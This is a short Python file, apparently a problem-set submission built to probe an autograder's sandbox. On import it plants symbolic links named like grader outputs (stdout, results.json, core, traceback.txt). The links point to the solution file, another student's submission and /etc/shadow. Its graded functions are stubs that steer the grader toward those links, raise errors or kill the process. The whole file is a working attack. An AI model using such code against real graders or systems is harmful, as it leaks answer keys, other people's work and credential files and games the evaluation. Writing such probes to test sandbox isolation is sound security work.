"""Goal: leave symbolic links to the solutions where the grader might pick something up.

Without a sandbox: fails
"""

import os
import tempfile

TARGETS = ("../../solutions/secret.txt", "solutions/secret.txt", "../submitted/0000/ps1_tensors.py", "/etc/shadow")
NAMES = ("ps1_tensors.py", "stdout", "stderr", "output", "results.json", "core", "shared-memory", "traceback.txt", "sigmoid.pt")


def leave_links():
    for folder in (os.getcwd(), tempfile.gettempdir()):
        for number, name in enumerate(NAMES):
            path = os.path.join(folder, name)
            if folder == os.getcwd() and not os.path.lexists(path):
                os.symlink(TARGETS[number % len(TARGETS)], path)


leave_links()


def sigmoid(x):
    return os.path.join(os.getcwd(), "sigmoid.pt")


def mse(y_true, y_pred):
    raise OSError(5, "see the file", os.path.join(os.getcwd(), "traceback.txt"))


def replace_last_row(x, row):
    os._exit(3)  # whoever looks for a core file finds a link
